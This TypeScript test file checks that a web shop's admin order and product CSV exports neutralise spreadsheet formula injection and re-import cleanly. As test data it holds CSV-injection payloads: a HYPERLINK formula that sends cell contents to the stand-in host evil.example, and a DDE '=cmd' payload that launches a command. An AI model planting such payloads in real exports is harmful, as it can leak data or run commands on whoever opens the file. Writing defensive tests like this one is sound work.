/**
 * CSV exports neutralise formula cells (SECURITY.md, second review, medium): customer and product
 * names starting with `=`, `+`, `-`, `@`, tab or CR are text in the admin's order and product CSV,
 * and the shop's own export imports back unchanged.
 */
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { users } from '../../core/db/schema/accounts.ts';
import { addToCart } from '../../core/cart/service.ts';
import { importProductsCsv, productsCsv } from '../../core/catalogue/manage.ts';
import { products } from '../../core/db/schema/catalogue.ts';
import { ordersCsv } from '../../core/orders/admin.ts';
import { createOrder } from '../../core/orders/index.ts';
import { createCustomer, productWith } from '../helpers/customers.ts';
import { useTestSuite } from '../helpers/suite.ts';

describe('CSV exports neutralise formula cells', () => {
  const t = useTestSuite();

  it('a customer named =HYPERLINK(…) is text in the order CSV; so are names starting with +, - and @', async () => {
    const p = await productWith(t.shop, 50, 2000, 0);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', '+41 44 000', '-2+3', '@SUM(A1:A2)'];
    for (const firstName of names) {
      const c = await createCustomer(t.shop);
      await t.shop.db.update(users).set({ firstName, lastName: "d'Anjou" }).where(eq(users.id, c.id));
      await addToCart(t.shop.db, c.id, p.id, 1, c.id);
      await createOrder(t.shop, { userId: c.id, paymentMethod: 'qr-bill' });
    }
    const csv = await ordersCsv(t.shop, {});
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klick"") d'Anjou"`);
    expect(csv).toContain(`,'+41 44 000 d'Anjou,`);
    expect(csv).toContain(`,'-2+3 d'Anjou,`);
    expect(csv).toContain(`,'@SUM(A1:A2) d'Anjou,`);
    // no cell of any row starts with a formula character
    const cells = csv.split(/,|\n/).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('product names starting with =, tab or CR are text in the product CSV', async () => {
    const rows = await t.shop.db.select().from(products).orderBy(products.sku).limit(3);
    const names = ["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
    for (let i = 0; i < 3; i++) await t.shop.db.update(products).set({ name: names[i] }).where(eq(products.id, rows[i].id));
    const csv = await productsCsv(t.shop.db);
    expect(csv).toContain(`,'=cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'\t=1+1,`);
    expect(csv).toContain(`,"'\r=1+1",`);
    expect(csv).not.toMatch(/(^|,)"?(=cmd|\t=|\r=)/m);
  });

  it("the shop's own export imports back unchanged: the leading ' of a neutralised cell is taken off", async () => {
    const [row] = await t.shop.db.select().from(products).orderBy(products.sku).limit(1);
    await t.shop.db.update(products).set({ name: '=HYPERLINK("http://evil.example")', brand: '@Brand' }).where(eq(products.id, row.id));
    const csv = await productsCsv(t.shop.db);
    expect(csv).toContain(`'=HYPERLINK`);
    const admin = await createCustomer(t.shop);
    const result = await importProductsCsv(t.shop.db, csv, { dryRun: false, adminId: admin.id });
    expect(result.problems).toEqual([]);
    const [after] = await t.shop.db.select().from(products).where(eq(products.id, row.id));
    expect(after.name).toBe('=HYPERLINK("http://evil.example")');
    expect(after.brand).toBe('@Brand');
  });
});
